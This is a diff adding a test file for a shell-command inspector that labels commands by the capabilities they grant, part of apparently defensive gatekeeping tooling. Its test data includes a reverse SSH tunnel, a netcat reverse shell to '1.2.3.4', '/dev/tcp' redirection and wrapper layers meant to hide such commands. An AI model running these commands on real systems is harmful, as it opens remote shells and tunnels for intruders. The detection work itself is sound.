@@ -1,0 +1,146 @@
+"""Shell inspector: table-driven cases (cases/shell.yaml) and properties."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from gatekeeper.errors import InspectionError
+from gatekeeper.inspectors import INSPECTORS, InspectContext
+from gatekeeper.inspectors.shell import MAX_DEPTH, MAX_INPUT, inspect_shell
+from gatekeeper.models import Capability
+
+CTX = InspectContext()
+CASES: list[dict[str, Any]] = yaml.safe_load((Path(__file__).parent / "cases" / "shell.yaml").read_text())
+
+
+def names(cmd: str) -> set[str]:
+    return {c.name for c in inspect_shell(cmd, CTX)}
+
+
+@pytest.mark.parametrize("case", CASES, ids=[c["cmd"][:60] for c in CASES])
+def test_case(case: dict[str, Any]) -> None:
+    got = names(case["cmd"])
+    if "exact" in case:
+        assert got == set(case["exact"])
+    assert set(case.get("expect", [])) <= got, f"missing {set(case.get('expect', [])) - got}"
+    assert not set(case.get("forbid", [])) & got
+
+
+def test_registered() -> None:
+    assert INSPECTORS["shell"] is inspect_shell
+
+
+@pytest.mark.parametrize("value", [None, 3, ["ls"], {"cmd": "ls"}, b"ls"])
+def test_wrong_type_is_invalid(value: object) -> None:
+    assert [c.name for c in inspect_shell(value, CTX)] == ["inspect.invalid"]
+
+
+def test_evidence_points_at_the_fragment() -> None:
+    caps = {c.name: c for c in inspect_shell("git status && ssh -N -R 2222:localhost:22 u@203.0.113.7", CTX)}
+    assert "-R 2222:localhost:22" in caps["net.tunnel.reverse"].evidence
+
+
+def test_parse_failure_is_opaque_with_the_error_as_evidence() -> None:
+    caps = {c.name: c for c in inspect_shell("echo 'unterminated", CTX)}
+    assert "shell.opaque" in caps
+    assert "unparseable" in caps["shell.opaque"].evidence
+
+
+def test_depth_limit() -> None:
+    cmd = "ssh -R 1:a:2 h"
+    for _ in range(MAX_DEPTH + 2):
+        cmd = f"bash -c {_quote(cmd)}"
+    assert "shell.opaque" in names(cmd)
+
+
+def _quote(s: str) -> str:
+    return "'" + s.replace("'", "'\\''") + "'"
+
+
+def test_length_cap() -> None:
+    assert names("echo " + "a" * MAX_INPUT) == {"shell.opaque"}
+
+
+def test_deep_nesting_does_not_crash() -> None:
+    assert "shell.opaque" in names("$(" * 400 + "ls" + ")" * 400)
+
+
+def test_cwd_comes_from_context() -> None:
+    caps = {c.name for c in inspect_shell("echo x > out", InspectContext(workspace="/srv/app"))}
+    assert "fs.write:/srv/app/out" in caps
+
+
+def test_results_are_fresh_lists() -> None:
+    a = inspect_shell("git status", CTX)
+    a.append(Capability("x"))
+    assert [c.name for c in inspect_shell("git status", CTX)] == ["proc.exec:git"]
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(max_size=200))
+def test_arbitrary_text_never_crashes(text: str) -> None:
+    try:
+        caps = inspect_shell(text, CTX)
+    except InspectionError:
+        return
+    assert isinstance(caps, list)
+    assert all(isinstance(c, Capability) for c in caps)
+
+
+_TOKENS = st.sampled_from(
+    [
+        "ssh",
+        "-R",
+        "1:a:2",
+        "h",
+        "|",
+        "&&",
+        ";",
+        "$(",
+        ")",
+        "`",
+        "'",
+        '"',
+        "bash",
+        "-c",
+        "eval",
+        "sudo",
+        "env",
+        "A=b",
+        "nc",
+        "-e",
+        "/bin/sh",
+        ">",
+        "/dev/tcp/1.2.3.4/5",
+        "<(",
+        "curl",
+        "x://y",
+        "\n",
+        "$X",
+        "*",
+        "{a,b}",
+    ]
+)
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(_TOKENS, max_size=25))
+def test_shell_like_token_soup_never_crashes(tokens: list[str]) -> None:
+    caps = inspect_shell(" ".join(tokens), CTX)
+    assert all(isinstance(c, Capability) for c in caps)
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.sampled_from(["ssh -R 1:a:2 h.example", "nc -e /bin/sh 1.2.3.4 9"]), st.integers(0, 4))
+def test_hiding_inside_wrappers_does_not_hide(cmd: str, layers: int) -> None:
+    plain = names(cmd) - {c for c in names(cmd) if c.startswith("proc.exec:")}
+    wrapped = cmd
+    for i in range(layers):
+        wrapped = ["nohup ", "timeout 5 ", "env A=1 ", "sudo -u root ", "nice -n 1 "][i] + wrapped
+    assert plain <= names(wrapped)
